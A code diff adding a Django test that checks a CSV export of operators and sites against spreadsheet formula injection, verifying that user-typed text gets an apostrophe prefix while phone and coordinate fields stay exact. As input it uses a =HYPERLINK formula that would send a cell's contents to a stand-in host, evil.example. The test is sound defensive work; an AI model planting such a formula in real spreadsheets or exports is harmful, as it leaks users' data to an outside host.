@@ -195,3 +195,27 @@ def test_a_siret_has_14_digits(operator, siret):
 def test_the_database_refuses_a_malformed_siret(operator):
     with refused_by("operator_siret_14_digits"):
         Operator.objects.filter(pk=operator.pk).update(siret="12345")
+
+
+def test_the_lieux_export_neutralises_typed_text_and_keeps_exact_values(client, planning):
+    """Text typed by users that a spreadsheet would run (= + - @) gets an apostrophe; the
+    columns the schema constrains (phone +33…, a negative longitude, URLs) stay exact."""
+    operator = planning["operator"]
+    operator.name = '=HYPERLINK("http://evil.example/?"&A1)'
+    operator.save()
+    site = operator.sites.get(slug="place-du-regain")
+    site.address, site.city, site.longitude = "+1 rue du Puits", "@SUM(1+1)", "-1.553600"
+    site.save()
+    response = client.get(MEDIATION_URL)
+    assert mediation_errors(response.content.decode()) == []
+    regain = {row["id"]: row for row in mediation_rows(response)}[
+        "allervers--ccas-test--place-du-regain"
+    ]
+    assert regain["source"] == regain["structure_parente"] == "'" + operator.name
+    assert regain["adresse"] == "'+1 rue du Puits"
+    assert regain["commune"] == "'@SUM(1+1)"
+    assert regain["telephone"] == "+33321000000"
+    assert regain["longitude"] == "-1.553600"
+    exact = {"telephone", "longitude", "latitude"}
+    for name, value in regain.items():
+        assert name in exact or not value.startswith(("=", "+", "-", "@")), (name, value)
